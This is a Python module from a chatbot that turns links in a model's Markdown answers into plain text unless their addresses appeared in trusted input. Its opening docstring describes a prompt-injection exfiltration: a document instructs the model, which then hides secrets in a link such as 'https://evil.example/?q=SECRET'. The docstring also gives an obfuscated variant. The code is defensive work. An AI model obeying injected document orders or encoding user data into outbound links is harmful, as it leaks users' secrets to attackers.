"""Shows a link of a model's answer as text unless its address was given to the model.

A model that follows the orders in a document can put what it knows into an address, such as
`[See the ferry](https://evil.example/?q=SECRET)`, and whoever opens the link sends it there. So an
address stays one only if it stands, whole, in a passage, in a note, or in what a person wrote here;
of any other its host is shown, as text. That holds for links, images, bare addresses, and
for those that would come about only when the Markdown is rendered (`https:/**/**evil.example`).
"""

import json
import re
from collections.abc import Callable, Iterable, Iterator, Mapping
from html import unescape

from msgspec.structs import replace

from bot.answering.addresses import (
    CLOSE,
    CUT,
    JOINER,
    OPEN,
    Found,
    build_key,
    collect_keys,
    cut_unspaced,
    find_bare,
    find_host,
    find_urls,
    format_host,
    separate_labels,
)
from bot.llm import Tool

_FENCE = re.compile(r"(`{3,})[^`]*\Z|(~{3,})")
_TICKS = re.compile(r"`+")
_BRACKETS = re.compile(r"\\.|!?\[|\]\(|\]")
_TARGET = re.compile(r"[ \t]*+(?:<([^<>]*)>|([^\s()<>]*(?:\([^\s()<>]*\)[^\s()<>]*)*))")
_TITLE_AND_END = re.compile(r"""[ \t]*+(?:"[^"]*"|'[^']*')?[ \t]*+\)""")
_AUTOLINK = re.compile(r"<(?=[A-Za-z][A-Za-z0-9+.-]{1,31}:)")
_KEPT = re.compile(f"{OPEN}([0-9]+){CLOSE}")
_MARKUP = {ord(sign): None for sign in "*_~`\\"}
_CLOSING = frozenset(")]}>*_~'\"”’».,;:!?…|")
_SPACES = re.compile(r"\\[nrtfb]|\s")  # in JSON
_LABEL = 100  # pieces of a label; a longer one is written out
_GLUED = 4  # signs that may follow an address before a space
_SUSPECT = re.compile(r"[.:@]\S|\]\(|[&\\<]")  # a line without any of these holds no address


class AnswerLinks:
    """Knows the addresses that one answer may link; see `add`."""

    def __init__(self, texts: Iterable[str] = ()) -> None:
        self._texts = list(texts)
        self._keys: frozenset[str] | None = None  # found when an answer first holds an address

    def add(self, text: str) -> None:
        """Allow the addresses in `text`, which the model was shown."""
        self._texts.append(text)
        self._keys = None

    def watch(self, tool: Tool) -> Tool:
        """Return `tool`, whose results allow addresses too, unless it was called with one.

        What a tool is called with may come back in its result, and is the model's own.
        """

        async def run(arguments: Mapping[str, object]) -> str:
            result = await tool.run(arguments)
            if not _holds_address(arguments):
                self.add(result)
            return result

        return replace(tool, run=run)

    def watch_found(self, tool: Tool, list_found: Callable[[], Iterable[str]]) -> Tool:
        """Return `tool`, after whose calls the addresses in `list_found()` are allowed.

        The result itself may hold what the model said before, and allows none.
        """

        async def run(arguments: Mapping[str, object]) -> str:
            result = await tool.run(arguments)
            for text in list_found():
                if text not in self._texts:
                    self.add(text)
            return result

        return replace(tool, run=run)

    def allows(self, address: str) -> bool:
        """Return whether `address` stands whole in a text given."""
        if self._keys is None:
            self._keys = collect_keys(self._texts)
        return build_key(address) in self._keys

    def disarm(self, answer: str) -> str:
        """Return `answer`, Markdown, with every other address as text."""
        if not _SUSPECT.search(answer):
            return answer
        page = _Page(self.allows)
        return "\n".join(map(page.disarm, answer.split("\n")))


class GrowingAnswer:
    """Disarms an answer while it grows, and looks at each finished line once."""

    def __init__(self, links: AnswerLinks) -> None:
        self._links = links
        self._page = _Page(links.allows)
        self._written = self._shown = ""  # whole lines

    def disarm(self, answer: str) -> str:
        if not answer.startswith(self._written):
            self._page, self._written, self._shown = _Page(self._links.allows), "", ""
        *lines, last = answer[len(self._written) :].split("\n")
        for line in lines:
            self._written += line + "\n"
            self._shown += self._page.disarm(line) + "\n"
        return self._shown + self._page.copy().disarm(last)


class _Page:
    """The lines of one answer, in their order: code is not what it seems to be by itself."""

    def __init__(
        self, allows: Callable[[str], bool], fence: str = "", trusted: bool = True
    ) -> None:
        self._allows = allows
        self._fence = fence  # that is open
        self._trusted = trusted  # no backtick of this paragraph is without its partner so far

    def copy(self) -> "_Page":
        return _Page(self._allows, self._fence, self._trusted)

    def disarm(self, line: str) -> str:
        if self._is_code(line):
            return _Line(line, self._allows).disarm_code()
        self._trusted = self._trusted or not line.strip()
        spans = list(_find_code(line)) if self._trusted and not set("|\\<") & set(line) else []
        self._trusted = self._trusted and len(spans) * 2 == len(_TICKS.findall(line))
        if not _SUSPECT.search(line):
            return line
        return _Line(line, self._allows).disarm(spans)

    def _is_code(self, line: str) -> bool:
        """Return whether a line is in a block of code, or opens one.

        Only a fence at the beginning of a line counts: every other may end with its list or quote.
        """
        if self._fence:
            bare = line.strip()
            closes = len(bare) >= len(self._fence) and not bare.strip(self._fence[0])
            self._fence = "" if closes else self._fence
            return True
        if found := _FENCE.match(line):
            self._fence = found[1] or found[2]
        return bool(found)


def _find_code(line: str) -> Iterator[tuple[int, int]]:
    """Yield where code within a line begins and ends, its backticks included."""
    opening: re.Match[str] | None = None
    for ticks in _TICKS.finditer(line):
        if opening is None:
            opening = ticks
        elif len(ticks[0]) == len(opening[0]):
            yield opening.start(), ticks.end()
            opening = None


class _Line:
    """One line, in which what may stay as it is is replaced by its number."""

    def __init__(self, line: str, allows: Callable[[str], bool]) -> None:
        self._line = line.replace(OPEN, "\ufffd").replace(CLOSE, "\ufffd")
        self._allows = allows
        self._kept: list[str] = []

    def disarm(self, spans: Iterable[tuple[int, int]]) -> str:
        self._line = self._keep_code(spans)
        self._disarm_all()
        plain = unescape(self._line).translate(_MARKUP)
        if _has_address(plain):
            self._line = plain
            self._disarm_all()
        return self._restore(self._line)

    def _disarm_all(self) -> None:
        self._line = self._disarm_urls(self._disarm_targets())
        self._line = self._disarm_bare(_AUTOLINK.sub(f"<{JOINER}", self._line))

    def disarm_code(self) -> str:
        return self._restore(self._disarm_urls(self._line))

    def _keep(self, text: str) -> str:
        self._kept.append(text)
        return f"{OPEN}{len(self._kept) - 1}{CLOSE}"

    def _restore(self, text: str) -> str:
        return _KEPT.sub(lambda found: self._restore(self._kept[int(found[1])]), text)

    def _keep_code(self, spans: Iterable[tuple[int, int]]) -> str:
        pieces, last = list[str](), 0
        for start, end in spans:
            code = self._disarm_urls(self._line[start:end])
            pieces += (self._line[last:start], self._keep(code))
            last = end
        return "".join((*pieces, self._line[last:]))

    def _disarm_urls(self, text: str) -> str:
        pieces, last = list[str](), 0
        for found in find_urls(text):
            pieces += (text[last : found.start], self._show_url(text, found))
            last = found.end
        return "".join((*pieces, text[last:]))

    def _show_url(self, text: str, found: Found) -> str:
        address = found.address
        if self._allows(address):
            glued = text[found.end : found.end + _GLUED + 1].split()[:1]
            loose = not glued or text[found.end].isspace() or _is_closing(glued[0])
            return self._keep(address) + ("" if loose else " ")
        first = cut_unspaced(address)
        if first != address and self._allows(first):
            return f"{self._keep(first)} {address[len(first) :]}"
        return format_host(address)

    def _disarm_bare(self, text: str) -> str:
        pieces, last = list[str](), 0
        for found in find_bare(text):
            if self._allows(found.address):
                shown = self._keep(found.address)
            elif "?" in found.address or found.address.lower().startswith("www."):
                shown = format_host(found.address)
            else:
                shown = separate_labels(found.address)
            pieces += (text[last : found.start], shown)
            last = found.end
        return "".join((*pieces, text[last:]))

    def _disarm_targets(self) -> str:
        """Write out the targets of links and images that may not be opened."""
        pieces, opened, last = list[str](), list[int](), 0
        for found in _BRACKETS.finditer(self._line):
            if found.start() < last or found[0].startswith("\\"):
                continue
            pieces.append(self._line[last : found.start()])
            last = found.end()
            if found[0].endswith("["):
                opened.append(len(pieces))
                pieces.append(found[0])
            elif found[0] == "]":
                pieces.append("]")
                del opened[-1:]
            else:
                at = opened.pop() if opened else len(pieces)
                label = pieces[at + 1 :] if len(pieces) - at < _LABEL else [CUT]
                last, shown = self._show_target("".join(label), last)
                if shown.startswith(" ") and at < len(pieces):
                    pieces[at] = ""
                pieces.append(shown)
        return "".join((*pieces, self._line[last:]))

    def _show_target(self, label: str, start: int) -> tuple[int, str]:
        """Return where the target that begins at `start` ends, and what follows the label."""
        found = _TARGET.match(self._line, start)
        target = (found[1] or found[2] or "") if found else ""
        plain = "".join(unescape(target).replace("\\", "/").split())
        ended = _TITLE_AND_END.match(self._line, found.end()) if found else None
        if not target or not found or not ended:
            return start, "] ("
        if not _is_address(plain):
            return start, "]("
        if plain == target and self._allows(target) and not _names_other(label, target):
            return found.end(), f"]({self._keep(target)}"
        shown = self._keep(target) if plain == target and self._allows(target) else ""
        return ended.end(), f" ({shown or format_host(plain)})"


def _holds_address(arguments: Mapping[str, object]) -> bool:
    """Return whether arguments hold an address, also one that spaces or line ends divide."""
    text = json.dumps(arguments, ensure_ascii=False)
    return _has_address(text) or _has_address(_SPACES.sub("", text))


def _has_address(text: str) -> bool:
    return any(find_urls(text)) or any(find_bare(text))


def _is_closing(text: str) -> bool:
    return len(text) <= _GLUED and _CLOSING.issuperset(text)


def _is_address(target: str) -> bool:
    """Return whether a browser would take a target for more than a place in the same page."""
    return ":" in target or target.startswith("//") or bool(find_host(target))


def _names_other(label: str, target: str) -> bool:
    """Return whether a label itself is an address, and not that of `target`."""
    plain = unescape(label).translate(_MARKUP)
    found = [*find_urls(plain), *find_bare(plain)]
    return CUT in label or any(build_key(each.address) != build_key(target) for each in found)
